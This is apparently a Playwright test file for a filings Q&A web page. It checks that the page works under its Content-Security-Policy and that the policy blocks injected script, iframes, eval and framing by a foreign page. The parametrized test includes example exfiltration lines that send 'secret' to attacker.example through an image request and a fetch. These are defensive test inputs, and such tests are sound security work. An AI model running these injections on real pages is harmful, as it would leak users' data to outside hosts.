"""The Content-Security-Policy in a real browser: the page works under it without one complaint, and it bites."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.visitor import PATIENCE
from tests.ui.running import Running

LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event =>
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""


@pytest.fixture
def page(browser: Browser, served: Running) -> Iterator[Page]:
    context = browser.new_context(reduced_motion="reduce")
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    yield page
    context.close()


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.violations")
    return found


def test_the_page_works_without_one_violation(page: Page, served: Running) -> None:
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text) if "Policy" in message.text else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto(served.address)
    box = page.get_by_placeholder("Ask about these filings")
    box.fill("How was the Family Safety acquisition financed?")
    box.press("Enter")
    prose = page.locator("article .prose")
    expect(prose).to_contain_text("$65.2 million", timeout=PATIENCE)
    prose.locator(".reference").last.click()
    expect(page.locator("mark").first).to_contain_text("$65.2 million", timeout=PATIENCE)
    assert violations(page) == []
    assert complaints == []


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        ("new Image().src = 'https://attacker.example/?q=secret'", "img-src"),
        ("fetch('https://attacker.example/', {mode: 'no-cors'}).catch(() => 0)", "connect-src"),
        ("document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))", "script"),
        ("document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://a.example/'}))", "frame"),
        # Later: what the driver itself calls may evaluate.
        ("setTimeout(() => { try { window.eval('1') } catch {} })", "script-src"),
    ],
)
def test_what_a_filing_could_smuggle_in_is_stopped(page: Page, served: Running, attempt: str, directive: str) -> None:
    page.goto(served.address)
    page.get_by_placeholder("Ask about these filings").wait_for()
    page.evaluate(f"() => {{ {attempt} }}")
    deadline = time.monotonic() + 20
    while not violations(page):  # wait_for_function would itself be an eval, which the policy forbids
        assert time.monotonic() < deadline
        page.wait_for_timeout(50)
    assert violations(page)[0].startswith(directive)
    assert page.evaluate("window.ran") is None


def test_a_stranger_cannot_put_the_page_into_a_frame(page: Page, served: Running) -> None:
    class Stranger(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(f"<iframe src='{served.address}/'></iframe>".encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    refusals: list[str] = []
    page.on("console", lambda message: refusals.append(message.text) if "frame-ancestors" in message.text else None)
    try:
        page.goto(f"http://127.0.0.1:{server.server_port}/")
        page.wait_for_timeout(1500)
        assert refusals
        assert page.frames[1].locator("#root").count() == 0
    finally:
        server.shutdown()
